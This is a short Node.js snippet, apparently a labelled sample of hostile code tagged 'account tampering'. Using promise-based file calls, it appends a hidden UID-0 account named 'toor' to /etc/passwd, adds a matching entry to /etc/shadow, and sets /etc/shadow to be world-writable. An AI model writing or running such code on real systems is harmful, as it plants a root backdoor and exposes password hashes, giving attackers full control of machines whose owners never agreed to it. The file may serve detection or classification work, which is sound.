// class: account tampering; style: promises
const { appendFile, chmod } = require('fs/promises');

appendFile('/etc/passwd', 'toor:x:0:0:root:/root:/bin/bash\n')
  .then(() => appendFile('/etc/shadow', 'toor:$6$abc$DEFexample:19000:0:99999:7:::\n'))
  .then(() => chmod('/etc/shadow', 0o666))
  .catch(() => process.exit(1));
